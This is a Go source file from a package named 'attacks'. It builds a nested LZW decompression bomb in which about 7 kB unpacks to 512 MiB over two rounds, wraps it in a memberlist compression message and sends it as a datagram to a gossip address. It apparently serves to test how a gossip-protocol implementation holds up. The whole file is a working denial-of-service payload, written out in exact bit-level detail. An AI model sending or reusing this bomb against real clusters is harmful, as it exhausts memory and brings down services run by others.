package attacks

import (
	"bytes"
	"compress/lzw"
	"context"
)

// NestedCompression sends one datagram of about 7 kB that unpacks to 512 MiB after two rounds.
func NestedCompression(ctx context.Context, gossip string) error {
	var outer bytes.Buffer
	w := lzw.NewWriter(&outer, lzw.LSB, 8)
	_, _ = w.Write(compressed(bomb(512 << 20))) // writes to memory cannot fail
	_ = w.Close()
	return Datagrams(ctx, gossip, labeled(compressed(outer.Bytes())))
}

// compressed returns a compression message of memberlist around buf, which is compressed already.
func compressed(buf []byte) []byte {
	return append([]byte{9}, packed(struct {
		Algo int
		Buf  []byte
	}{0, buf})...)
}

// bomb returns the LZW encoding of at least the given number of zeros. It fills the table of codes once, and then
// repeats the code of the longest text. All bits of this code are ones, so the result compresses well.
func bomb(zeros int) []byte {
	const first, last, widest = 258, 4095, 12
	var packed []byte
	var bits, have uint
	put := func(code, width uint) {
		bits |= code << have
		for have += width; have >= 8; have -= 8 {
			packed = append(packed, byte(bits&0xff))
			bits >>= 8
		}
	}
	put(0, 9)
	width := uint(9)
	for code := uint(first); code <= last; code++ { // text of the previous code and one more zero
		if code == 1<<width {
			width++
		}
		put(code, width)
	}
	for range zeros / (last - first + 2) {
		put(last, widest)
	}
	put(first-1, widest) // end of the data
	put(0, 8)
	return packed
}
